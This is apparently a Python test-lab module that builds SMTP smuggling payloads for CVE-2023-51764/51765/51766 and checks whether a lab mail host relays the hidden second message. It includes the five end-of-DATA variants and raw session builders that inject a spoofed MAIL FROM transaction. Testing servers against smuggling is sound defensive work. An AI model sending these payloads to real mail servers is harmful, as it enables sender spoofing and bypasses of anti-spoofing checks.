"""The SMTP smuggling payloads (CVE-2023-51764/51765/51766) and how a lab host's answer to them is read.

Each payload is one DATA whose text hides an end-of-DATA variant followed by a second transaction
(MAIL FROM a spoofed local sender, RCPT TO a foreign and a relay-domain recipient, DATA). A host that
takes the variant for the end of DATA accepts two messages where the client sent one. Every recipient
is a relay-domain or foreign address, so everything the host accepts leaves it for the sink: what the
sink records (after the host's queue settled) is the proof.
"""

from __future__ import annotations

import uuid
from dataclasses import dataclass
from typing import Any

from tests.lab.network import RELAY_DOMAIN
from tests.lab.rawsmtp import RawSession

# The end-of-DATA variants of the published smuggling research (SEC Consult, 2023-12), by name.
VARIANTS = {
    "lf-dot-crlf": "\n.\r\n",    # CVE-2023-51764 (Postfix), CVE-2023-51765 (Sendmail), CVE-2023-51766 (Exim)
    "cr-dot-crlf": "\r.\r\n",
    "lf-dot-lf": "\n.\n",
    "crlf-dot-cr": "\r\n.\r",
    "crlf-dot-lf": "\r\n.\n",
}
FOREIGN = "foreign.test"
REPLIES_AFTER_DATA = 8  # after QUIT: any smuggled replies still due, its 221, the hang-up
EARLY_SECONDS = 2.0  # how long a split attempt waits for an early answer (none comes from a safe server)


@dataclass(frozen=True)
class Payload:
    """One smuggling attempt: its unique addresses, and the session that sends it."""

    variant: str
    token: str
    source: str

    @property
    def outer(self) -> str:
        return f"outer-{self.token}@{RELAY_DOMAIN}"

    @property
    def inner(self) -> tuple[str, str]:
        return f"victim-{self.token}@{FOREIGN}", f"inner-{self.token}@{RELAY_DOMAIN}"

    @property
    def spoofed(self) -> str:
        return f"spoof-{self.token}@example.test"

    def session(self, host: str, *, split: bool = False) -> RawSession:
        """The attempt in one write (as the published payloads are sent), or ``split`` into two writes
        right after the hidden end, so a server that refuses pipelined input still reveals (by answering
        early) whether it took the hidden end for the end of DATA."""
        victim, inner = self.inner
        hidden = (f"From: <probe@client.test>\r\nTo: <{self.outer}>\r\nSubject: outer {self.token}\r\n"
                  f"Message-ID: <outer-{self.token}@client.test>\r\n\r\nouter {self.token}\r\nlast line"
                  f"{VARIANTS[self.variant]}")
        second = (f"MAIL FROM:<{self.spoofed}>\r\nRCPT TO:<{victim}>\r\nRCPT TO:<{inner}>\r\nDATA\r\n"
                  f"From: <{self.spoofed}>\r\nSubject: smuggled {self.token}\r\n"
                  f"Message-ID: <inner-{self.token}@example.test>\r\n\r\nsmuggled {self.token}\r\n.\r\n")
        data = [(hidden, 1, EARLY_SECONDS), (second, 1, 0)] if split else [(hidden + second, 1, 0)]
        return RawSession(host, self.source, [
            *_envelope(self.outer), *data, ("QUIT\r\n", REPLIES_AFTER_DATA, 0)])


def payloads(source: str) -> list[Payload]:
    return [Payload(variant, f"{variant}-{uuid.uuid4().hex[:10]}", source) for variant in VARIANTS]


def smuggled(payload: Payload, sink: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Sink messages of the hidden second transaction: its spoofed sender or one of its recipients."""
    hidden = {payload.spoofed, *payload.inner}
    return [m for m in sink if m["mail_from"] == payload.spoofed or hidden & set(m["rcpt_tos"])]


def delivered(payload: Payload, sink: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Sink messages for the outer recipient."""
    return [m for m in sink if payload.outer in m["rcpt_tos"]]


def line_ends_session(host: str, source: str, recipient: str, token: str, line_end: str) -> RawSession:
    """A plain message whose body lines end in ``line_end`` (bare LF or bare CR), ended by CRLF.CRLF."""
    text = (f"From: <probe@client.test>\r\nTo: <{recipient}>\r\nSubject: line ends {token}\r\n\r\n"
            f"first {token}{line_end}second {token}{line_end}third {token}\r\n.\r\n")
    return RawSession(host, source, [*_envelope(recipient), (text, 1, 0), ("QUIT\r\n", 2, 0)])


def _envelope(recipient: str) -> list[tuple[str, int, float]]:
    return [("EHLO client.test\r\n", 1, 0), ("MAIL FROM:<probe@client.test>\r\n", 1, 0),
            (f"RCPT TO:<{recipient}>\r\n", 1, 0), ("DATA\r\n", 1, 0)]
